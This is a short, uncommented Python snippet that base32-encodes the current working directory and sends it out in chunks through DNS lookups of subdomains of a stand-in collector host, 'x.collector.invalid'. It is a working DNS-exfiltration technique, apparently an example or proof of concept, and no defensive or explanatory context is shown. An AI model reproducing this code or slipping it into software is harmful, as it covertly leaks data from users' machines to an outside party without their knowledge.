import socket, base64, os
raw = base64.b32encode(os.getcwd().encode()).decode().strip("=")
for i in range(0, len(raw), 60):
    socket.gethostbyname(f"{raw[i:i+60]}.x.collector.invalid")
